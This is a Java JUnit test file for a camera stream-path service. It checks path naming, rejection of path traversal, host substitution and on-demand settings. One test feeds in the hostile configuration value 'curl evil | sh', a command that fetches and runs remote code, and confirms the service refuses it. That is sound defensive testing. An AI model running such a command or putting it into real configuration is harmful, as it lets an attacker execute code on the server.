package io.joystick.switcher.stream.service;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.joystick.auth.error.ApiException;
import io.joystick.switcher.device.client.Device;

class StreamPathsTest {

    static final ObjectMapper JSON = new ObjectMapper();

    static Device device(String configuration) throws Exception {
        JsonNode config = configuration == null ? null : JSON.readTree(configuration);
        return new Device("cam1", "Roof", "live", config, new Device.Information("10.0.0.1", "10.0.0.2", "primary", true));
    }

    @Test
    void thePathIsNamedAfterTheDeviceUnlessConfigured() throws Exception {
        assertEquals("cam1", StreamPaths.name(device(null)));
        assertEquals("roof-cam", StreamPaths.name(device("{\"path\":\"roof-cam\"}")));
        assertThrows(ApiException.class, () -> StreamPaths.name(device("{\"path\":\"../x\"}")));
    }

    @Test
    void hostIsTheChosenSlotsHostEverywhereInTheConfiguration() throws Exception {
        Device device = device("{\"path\":\"roof\",\"source\":\"rtsp://$host:8554/cam\",\"rtspTransport\":\"tcp\","
                + "\"sourceOnDemand\":false,\"extra\":{\"list\":[\"$host\"]}}");
        assertEquals(JSON.readTree("{\"source\":\"rtsp://10.0.0.2:8554/cam\",\"rtspTransport\":\"tcp\","
                + "\"sourceOnDemand\":false,\"extra\":{\"list\":[\"10.0.0.2\"]}}"),
                StreamPaths.config(device, "secondary", true));
        assertEquals("rtsp://10.0.0.1:8554/cam", StreamPaths.config(device, "primary", false).get("source").asText());
    }

    @Test
    void autoModePullsOnDemand() throws Exception {
        assertEquals(JSON.readTree("{\"sourceOnDemand\":true}"), StreamPaths.config(device(null), "primary", true));
        assertEquals(JSON.readTree("{}"), StreamPaths.config(device(null), "primary", false));
    }

    @Test
    void refusesConfigurationThatWouldRunCommandsOnTheMediaServer() throws Exception {
        ApiException refused = assertThrows(ApiException.class,
                () -> StreamPaths.config(device("{\"runOnInit\":\"curl evil | sh\"}"), "primary", false));
        assertEquals(400, refused.status());
        assertThrows(ApiException.class, () -> StreamPaths.config(device("{\"RUNONREADY\":\"x\"}"), "primary", false));
    }
}
